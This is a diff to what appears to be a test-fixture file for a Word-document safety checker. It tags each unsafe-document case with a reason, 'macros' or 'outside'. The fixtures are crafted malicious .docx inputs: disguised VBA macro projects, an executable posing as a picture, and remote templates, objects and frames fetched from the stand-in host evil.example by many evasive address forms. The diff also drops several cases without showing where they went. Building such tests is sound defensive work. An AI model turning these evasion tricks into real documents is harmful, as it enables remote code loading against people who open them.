@@ -6,6 +6,7 @@ import {
   typed,
   TYPES_PART,
   zip,
+  type Refusal,
   type ZipPart,
 } from "./zip.ts";
 
@@ -42,7 +43,7 @@ export const oleWith = (name: string): Buffer =>
     Buffer.alloc(64),
   ]);
 
-export const notSafeDocx = (): [string, Buffer][] => [
+export const notSafeDocx = (): Refusal[] => [
   [
     "a macro project by another name, told by its relation",
     docx(
@@ -53,14 +54,17 @@ export const notSafeDocx = (): [string, Buffer][] => [
         { mode: "" },
       ),
     ),
+    "macros",
   ],
   [
     "a macro project by another name, told by what it is",
     docx({ name: "word/media/photo.png", data: oleWith("_VBA_PROJECT") }),
+    "macros",
   ],
   [
     "a macro project whose stream's name is in small letters",
     docx({ name: "word/media/photo.png", data: oleWith("_vba_project") }),
+    "macros",
   ],
   [
     "content types of a macro document, a letter of them as an entity",
@@ -70,6 +74,7 @@ export const notSafeDocx = (): [string, Buffer][] => [
         "vnd.ms-word.document.macro&#69;nabled.main+xml",
       ),
     ),
+    "macros",
   ],
   [
     "a macro project among its content types, a letter of it as an entity",
@@ -79,12 +84,9 @@ export const notSafeDocx = (): [string, Buffer][] => [
         '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#x50;roject"/></Types>',
       ),
     ),
+    "macros",
   ],
-  ["a macro project among its content types, in UTF-16", typesInUtf16()],
-  [
-    "ActiveX by its relation",
-    docx({ name: "word/x.xml", data: "<x/>" }, related("control", "x.xml", { mode: "" })),
-  ],
+  ["a macro project among its content types, in UTF-16", typesInUtf16(), "macros"],
   [
     "a Windows program by the name of a picture",
     docx({ name: "word/media/a.png", data: Buffer.from("MZ\u0090\u0000 program", "latin1") }),
@@ -96,31 +98,48 @@ export const notSafeDocx = (): [string, Buffer][] => [
       data: Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
     }),
   ],
-  ["a template on another machine", template("\\\\evil.example\\share\\a.dotm")],
-  ["a template on another machine, with slashes", template("//evil.example/share/a.dotm")],
+  ["a template on another machine", template("\\\\evil.example\\share\\a.dotm"), "outside"],
+  [
+    "a template on another machine, with slashes",
+    template("//evil.example/share/a.dotm"),
+    "outside",
+  ],
   [
     "a template on another machine, by a file address",
     template("file://evil.example/share/a.dotm"),
+    "outside",
   ],
   [
     "a template on another machine, by a file address with five slashes",
     template("file://///evil.example/share/a.dotm"),
+    "outside",
   ],
   [
     "a template on another machine, by a file address and backslashes",
     template("file:///\\\\evil.example\\share\\a.dotm"),
+    "outside",
   ],
   [
     "a template on another machine, its slashes as escapes",
     template("file:///%5C%5Cevil.example%5Cshare%5Ca.dotm"),
+    "outside",
   ],
-  ["a template by WebDAV", template("\\\\evil.example@SSL\\DavWWWRoot\\a.dotm")],
+  ["a template by WebDAV", template("\\\\evil.example@SSL\\DavWWWRoot\\a.dotm"), "outside"],
   [
     "a template from elsewhere, a letter as an entity",
     template("&#104;ttps://evil.example/a.dotm"),
+    "outside",
   ],
-  ["a template from elsewhere, without its mode", template("https://evil.example/a.dotm", "")],
-  ["a template from elsewhere, by mhtml", template("mhtml:https://evil.example/a.mht!x")],
+  [
+    "a template from elsewhere, without its mode",
+    template("https://evil.example/a.dotm", ""),
+    "outside",
+  ],
+  [
+    "a template from elsewhere, by mhtml",
+    template("mhtml:https://evil.example/a.mht!x"),
+    "outside",
+  ],
   [
     "a template from elsewhere, in UTF-16",
     docx({
@@ -130,6 +149,7 @@ export const notSafeDocx = (): [string, Buffer][] => [
         "utf16le",
       ),
     }),
+    "outside",
   ],
   [
     "a template from elsewhere, in capitals: .RELS",
@@ -138,6 +158,7 @@ export const notSafeDocx = (): [string, Buffer][] => [
         name: "word/_rels/settings.xml.RELS",
       }),
     ),
+    "outside",
   ],
   [
     "a template from elsewhere, past the first 256 kB",
@@ -147,24 +168,30 @@ export const notSafeDocx = (): [string, Buffer][] => [
         `<Relationship Id="r" Type="${OFFICE}/attachedTemplate" TargetMode="External" Target="\\\\evil.example\\a.dotm"/>`,
       ),
     ),
+    "outside",
   ],
-  ["an object from elsewhere", docx(related("oleObject", "https://evil.example/a.html!"))],
   [
-    "an object from elsewhere, on one's own disk",
-    docx(related("oleObject", "file:///C:\\Users\\x\\a.xls")),
+    "an object from elsewhere",
+    docx(related("oleObject", "https://evil.example/a.html!")),
+    "outside",
   ],
   [
     "a frame from elsewhere",
     docx(
       related("frame", "https://evil.example/a.htm", { name: "word/_rels/webSettings.xml.rels" }),
     ),
+    "outside",
   ],
   [
     "a part of the document from elsewhere",
     docx(related("subDocument", "https://evil.example/a.docx")),
+    "outside",
   ],
-  ["a document to take in from elsewhere", docx(related("aFChunk", "https://evil.example/a.rtf"))],
-  ["a picture on another machine", docx(related("image", "file://evil.example/share/a.png"))],
+  [
+    "a document to take in from elsewhere",
+    docx(related("aFChunk", "https://evil.example/a.rtf")),
+    "outside",
+  ],
   [
     "an object by the strict relation's name",
     docx(
@@ -173,10 +200,7 @@ export const notSafeDocx = (): [string, Buffer][] => [
         "https://evil.example/a",
       ),
     ),
-  ],
-  [
-    "a kind of relation that nobody knows, to elsewhere",
-    docx(related("urn:x", "https://evil.example/a")),
+    "outside",
   ],
   [
     "a document type in UTF-16",
